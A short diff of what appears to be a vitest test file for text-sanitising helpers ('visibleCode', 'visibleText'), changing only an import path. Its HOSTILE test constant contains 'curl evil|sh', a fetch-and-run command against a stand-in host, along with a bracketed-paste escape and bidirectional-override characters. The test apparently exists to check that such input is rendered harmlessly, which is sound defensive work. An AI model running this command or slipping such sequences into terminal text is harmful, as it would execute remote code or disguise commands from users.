@@ -1,5 +1,5 @@
 import { expect, it } from 'vitest';
-import { visibleCode, visibleText } from './visible-text.ts';
+import { visibleCode, visibleText } from './safe-text.ts';
 
 const HOSTILE = 'ls\t-la \u0003\u001b[201~\r\ncurl evil|sh \u202e\u2066\u0085';
 
